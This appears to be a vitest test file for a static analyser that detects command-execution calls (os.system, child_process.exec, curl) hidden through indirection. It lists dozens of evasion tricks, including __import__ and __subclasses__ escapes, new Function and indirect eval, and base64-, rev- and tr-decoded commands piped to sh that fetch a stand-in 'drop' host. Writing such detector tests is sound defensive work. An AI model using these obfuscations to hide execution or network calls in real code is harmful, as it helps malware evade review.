import { describe, expect, it } from 'vitest';
import type { Language } from '../../../src/model/program.ts';
import { detailOf } from '../../../src/static/evidence/from-calls.ts';
import { factsOf } from '../facts-of.ts';

/** Name and detail of every call that a model knows. */
async function known(code: string, language: Language = 'python'): Promise<readonly string[]> {
  const { calls } = await factsOf(code, language, 'a');
  return calls.filter(({ api }) => api !== null).map((call) => `${call.name} ${detailOf(call)}`);
}

describe('os.system is found through', () => {
  it.each([
    ['a tuple', 'import os\na, b = os.system, 1\na("id")'],
    ['a walrus', 'import os\nif (s := os.system):\n    s("id")'],
    ['a conditional', 'import os\ns = os.system if x else print\ns("id")'],
    ['or', 'import os\ns = None or os.system\ns("id")'],
    ['a loop over functions', 'import os\nfor f in [print, os.system]:\n    f("id")'],
    ['a loop over pairs', 'import os\nfor n, f in [("a", os.system)]:\n    f("id")'],
    ['a list', 'import os\n[print, os.system][1]("id")'],
    ['a dict', 'import os\n{"run": os.system}["run"]("id")'],
    ['a dict in a variable', 'import os\nt = {}\nt["run"] = os.system\nt["run"]("id")'],
    ['get of a dict', 'import os\nt = {"run": os.system}\nt.get("run")("id")'],
    ['a class attribute', 'import os\nclass A:\n    run = os.system\nA.run("id")'],
    [
      'a class attribute through self',
      'import os\nclass A:\n    run = os.system\n    def go(self):\n        self.run("id")',
    ],
    [
      'inheritance',
      'import os\nclass B:\n    def __init__(self):\n        self.run = os.system\nclass A(B):\n    def go(self):\n        self.run("id")',
    ],
    ['getattr of an import by name', 'getattr(__import__("o" + "s"), "sys" "tem")("id")'],
    ['a default of getattr', 'import os\ngetattr(os, "system", None)("id")'],
    ['import_module under another name', 'from importlib import import_module as im\nim("os").system("id")'],
    ['builtins.__import__', 'import builtins\nbuiltins.__import__("os").system("id")'],
    ['__builtins__ as a table', '__builtins__["__import__"]("os").system("id")'],
    ['__builtins__.__dict__', '__builtins__.__dict__["__import__"]("os").system("id")'],
    ['vars of a module', 'import os\nvars(os)["system"]("id")'],
    ['vars of builtins', 'import builtins\nvars(builtins)["__import__"]("os").system("id")'],
    ['globals of an import', 'import os\nglobals()["os"].system("id")'],
    ['locals', 'import os\nlocals()["os"].system("id")'],
    ['sys.modules.get', 'import sys\nsys.modules.get("os").system("id")'],
    ['sys.modules.__getitem__', 'import sys\nsys.modules.__getitem__("os").system("id")'],
    ['attrgetter', 'import os, operator\noperator.attrgetter("system")(os)("id")'],
    ['methodcaller', 'import os, operator\noperator.methodcaller("system", "id")(os)'],
    ['partial', 'import os, functools\nfunctools.partial(os.system, "id")()'],
    [
      'partial of a later argument',
      'import os\nfrom functools import partial\np = partial(os.system)\np("id")',
    ],
    ['map', 'import os\nlist(map(os.system, ["id"]))'],
    ['a lambda', 'import os\nr = lambda c: os.system(c)\nr("id")'],
    ['a lambda that gives it', 'import os\n(lambda: os.system)()("id")'],
    ['a function that gives it', 'import os\ndef pick():\n    return os.system\npick()("id")'],
    ['a function that is given it', 'import os\ndef call(f, c):\n    return f(c)\ncall(os.system, "id")'],
    ['setattr', 'import os\nclass A: pass\nsetattr(A, "run", os.system)\nA.run("id")'],
    ['an attribute set from outside', 'import os\nclass A: pass\na = A()\na.run = os.system\na.run("id")'],
    ['type', 'import os\nA = type("A", (), {"run": os.system})\nA.run("id")'],
    ['__getattribute__', 'import os\nos.__getattribute__("system")("id")'],
    ['object.__getattribute__', 'import os\nobject.__getattribute__(os, "system")("id")'],
    ['__dict__.get', 'import os\nos.__dict__.get("system")("id")'],
    ['__call__', 'import os\nos.system.__call__("id")'],
    [
      'global',
      'import os\ndef set_it():\n    global run\n    run = os.system\ndef go():\n    run("id")\nset_it()\ngo()',
    ],
    [
      'nonlocal',
      'import os\ndef outer():\n    run = None\n    def inner():\n        nonlocal run\n        run = os.system\n    def later():\n        run("id")\n    inner()\n    later()\nouter()',
    ],
    [
      'exec in a namespace',
      'ns = {}\nexec("import os\\ndef run(c):\\n    os.system(c)", ns)\nns["run"]("id")',
    ],
    ['with as', 'import os, contextlib\nwith contextlib.nullcontext(os) as o:\n    o.system("id")'],
    ['match', 'import os\nmatch os:\n    case o:\n        o.system("id")'],
    ['a comprehension', 'import os\n[f("id") for f in [os.system]]'],
    ['a default parameter', 'import os\ndef go(c, run=os.system):\n    run(c)\ngo("id")'],
    [
      'subclasses of object',
      '[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "x"][0].__init__.__globals__["os"].system("id")',
    ],
    ['the globals of a function', 'import random\nrandom.__dict__["_os"].system("id")'],
    ['the os of another module', 'import shutil\nshutil.os.system("id")'],
    [
      'an own decorator',
      'import os\ndef deco(f):\n    def w(*a):\n        return os.system("id")\n    return w\n@deco\ndef go():\n    pass\ngo()',
    ],
    ['import in a try', 'try:\n    import os as o\nexcept ImportError:\n    o = None\no.system("id")'],
    ['staticmethod', 'import os\nclass A:\n    run = staticmethod(os.system)\nA.run("id")'],
    ['a dispatcher', 'import os\nD = dict(run=os.system)\nD["run"]("id")'],
    ['operator.call order', 'import os\n(lambda f: f("id"))(os.system)'],
  ])('%s', async (_what, code) => {
    expect((await known(code)).some((each) => /^os\.system (?:id|\*)$/.test(each))).toBe(true);
  });
});

describe('a call of child_process.exec is found through', () => {
  it.each([
    ['module.require', 'module.require("child_process").exec("id")'],
    ['process.mainModule.require', 'process.mainModule.require("child_process").exec("id")'],
    [
      'createRequire',
      'import { createRequire } from "module"; const r = createRequire(import.meta.url); r("child_process").exec("id")',
    ],
    ['a dynamic import', 'const c = await import("child_process"); c.exec("id")'],
    ['then of a dynamic import', 'import("child_process").then((c) => c.exec("id"))'],
    ['then with a pattern', 'import("child_process").then(({ exec }) => exec("id"))'],
    ['a renamed require', 'const r = require; r("child_process").exec("id")'],
    ['globalThis', 'globalThis["req" + "uire"]("child_process").exec("id")'],
    ['Reflect.get', 'Reflect.get(require("child_process"), "exec")("id")'],
    ['Reflect.apply', 'Reflect.apply(require("child_process").exec, null, ["id"])'],
    ['call', 'require("child_process").exec.call(null, "id")'],
    ['apply', 'require("child_process").exec.apply(null, ["id"])'],
    ['bind', 'const e = require("child_process").exec.bind(null); e("id")'],
    ['bind with arguments', 'require("child_process").exec.bind(null, "id")()'],
    [
      'Function.prototype.call.call',
      'Function.prototype.call.call(require("child_process").exec, null, "id")',
    ],
    ['a default in a pattern', 'const { exec: run = null } = require("child_process"); run("id")'],
    ['a nested pattern', 'const { a: { exec } } = { a: require("child_process") }; exec("id")'],
    ['a list pattern', 'const [e] = [require("child_process").exec]; e("id")'],
    ['a class field', 'class A { run = require("child_process").exec; go() { this.run("id"); } }'],
    ['a static block', 'class A { static { require("child_process").exec("id"); } }'],
    ['a prototype', 'function A() {} A.prototype.run = require("child_process").exec; new A().run("id")'],
    ['optional chaining', 'require("child_process")?.exec?.("id")'],
    ['a comma', '(0, require("child_process").exec)("id")'],
    ['a getter', 'const o = { get run() { return require("child_process").exec; } }; o.run("id")'],
    ['a default parameter', 'function go(c, run = require("child_process").exec) { run(c); } go("id")'],
    ['Object.assign', 'const o = Object.assign({}, require("child_process")); o.exec("id")'],
    ['a spread', 'const o = { ...require("child_process") }; o.exec("id")'],
    ['new Function', "new Function(\"require('child_process').exec('id')\")()"],
    ['constructor of a constructor', "[].constructor.constructor(\"require('child_process').exec('id')\")()"],
    ['constructor of a function', "(() => {}).constructor(\"require('child_process').exec('id')\")()"],
    ['a timer with a text', "setTimeout(\"require('child_process').exec('id')\", 1)"],
    ['an indirect eval', "(0, eval)(\"require('child_process').exec('id')\")"],
    ['with', 'with (require("child_process")) { exec("id"); }'],
    [
      'promisify',
      'const { promisify } = require("util"); const run = promisify(require("child_process").exec); run("id")',
    ],
    [
      'a closure of its own',
      'let run = console.log; function a() { const run = require("child_process").exec; run("id"); } a()',
    ],
    ['an object of functions', 'const o = { run: require("child_process").exec }; o["r" + "un"]("id")'],
    ['a function given', 'function go(f) { f("id"); } go(require("child_process").exec)'],
    ['process.binding by name', 'const m = ["child", "process"].join("_"); require(m).exec("id")'],
  ])('%s', async (_what, code) => {
    const { calls } = await factsOf(code, 'javascript', 'a');
    expect(calls.filter(({ api }) => api !== null).map((call) => call.name)).toContain('child_process.exec');
  });

  it('and a variable of a function does not change an outer one of the same name', async () => {
    const code =
      'const run = require("child_process").exec; function a() { const run = console.log; run("x"); } a(); run("id")';
    expect(await known(code, 'javascript')).toContain('child_process.exec id');
  });
});

describe('a command is found through', () => {
  it.each([
    ['a variable', 'c=curl\n$c https://a.drop.example'],
    ['two variables', 'a=cu b=rl\n$a$b https://a.drop.example'],
    ['a function', 'f() { curl "$1"; }\nf https://a.drop.example'],
    ['eval of pieces', 'eval "cu""rl https://a.drop.example"'],
    ['eval of a variable', 'x="curl https://a.drop.example"\neval $x'],
    ['substitution as a command', '$(echo curl) https://a.drop.example'],
    ['a here-document to sh', 'sh <<X\ncurl https://a.drop.example\nX'],
    ['a here-string', 'bash <<< "curl https://a.drop.example"'],
    ['ANSI quotes', "$'\\x63url' https://a.drop.example"],
    ['an array', 'c=(curl https://a.drop.example)\n"${c[@]}"'],
    ['an element of an array', 'c=(wget curl)\n${c[1]} https://a.drop.example'],
    ['printf -v', 'printf -v c "%s%s" cu rl\n$c https://a.drop.example'],
    ['printf with octal', '$(printf "\\143url") https://a.drop.example'],
    ['read of a here-string', 'read c <<< curl\n$c https://a.drop.example'],
    ['set --', 'set -- curl https://a.drop.example\n"$@"'],
    ['set -- by place', 'set -- curl https://a.drop.example\n$1 $2'],
    ['an alias', 'alias g=curl\ng https://a.drop.example'],
    ['an indirect variable', 'c=curl\nn=c\n${!n} https://a.drop.example'],
    ['declare', 'declare c=curl\n$c https://a.drop.example'],
    ['export', 'export c=curl\n$c https://a.drop.example'],
    ['xargs', 'echo https://a.drop.example | xargs curl'],
    ['xargs sh -c', "echo x | xargs -I{} sh -c 'curl https://a.drop.example'"],
    ['find -exec', 'find . -name x -exec curl https://a.drop.example \\;'],
    ['env', 'env -i A=b curl https://a.drop.example'],
    ['nohup', 'nohup curl https://a.drop.example &'],
    ['timeout', 'timeout -k 5 10 curl https://a.drop.example'],
    ['busybox', 'busybox curl https://a.drop.example'],
    ['command', 'command curl https://a.drop.example'],
    ['ssh', 'ssh h "curl https://a.drop.example"'],
    ['ssh with words', 'ssh -p 22 user@h curl https://a.drop.example'],
    ['su -c', 'su -c "curl https://a.drop.example" root'],
    ['base64', 'echo Y3VybCBodHRwczovL2EuZHJvcC5leGFtcGxl | base64 -d | sh'],
    ['base64 in a variable', 'x=$(echo Y3VybCBodHRwczovL2EuZHJvcC5leGFtcGxl | base64 --decode)\neval "$x"'],
    ['a here-string to base64', 'bash -c "$(base64 -d <<< Y3VybCBodHRwczovL2EuZHJvcC5leGFtcGxl)"'],
    ['rev', 'echo elpmaxe.pord.a//:sptth lruc | rev | sh'],
    ['tr', 'echo phey uggcf://n.qebc.rknzcyr | tr a-z n-za-m | sh'],
    ['tr of letters', 'echo CURL https://a.drop.example | tr A-Z a-z | sh'],
    ['xxd', 'echo 6375726c2068747470733a2f2f612e64726f702e6578616d706c65 | xxd -r -p | sh'],
    ['sed', "echo XXXurl https://a.drop.example | sed 's/XXX/c/' | sh"],
    ['cut', 'c=$(echo a:curl:b | cut -d: -f2)\n$c https://a.drop.example'],
    ['echo -e', '$(echo -e "\\x63url") https://a.drop.example'],
    ['replacement', 'c=cXuXrl\n${c//X/} https://a.drop.example'],
    ['a slice', 'c=xxcurlxx\n${c:2:4} https://a.drop.example'],
    ['a default', '${NOPE:-curl} https://a.drop.example'],
    [
      'gzip and base64 read by a here-document',
      'base64 -d <<X | sh\nY3VybCBodHRwczovL2EuZHJvcC5leGFtcGxl\nX',
    ],
    ['openssl base64', 'echo Y3VybCBodHRwczovL2EuZHJvcC5leGFtcGxl | openssl base64 -d | sh'],
    ['a file that is written and run', 'echo "curl https://a.drop.example" > /tmp/x.sh\nsh /tmp/x.sh'],
    ['source of a substitution', 'source <(echo "curl https://a.drop.example")'],
    ['trap', "trap 'curl https://a.drop.example' EXIT"],
    ['watch', 'watch -n 5 "curl https://a.drop.example"'],
    ['script -c', 'script -qc "curl https://a.drop.example" /dev/null'],
    ['parallel', 'parallel curl ::: https://a.drop.example'],
    ['a local variable', 'f() { local c=curl; $c https://a.drop.example; }\nf'],
  ])('%s', async (_what, code) => {
    expect((await known(code, 'shell')).some((each) => each.startsWith('curl '))).toBe(true);
  });
});
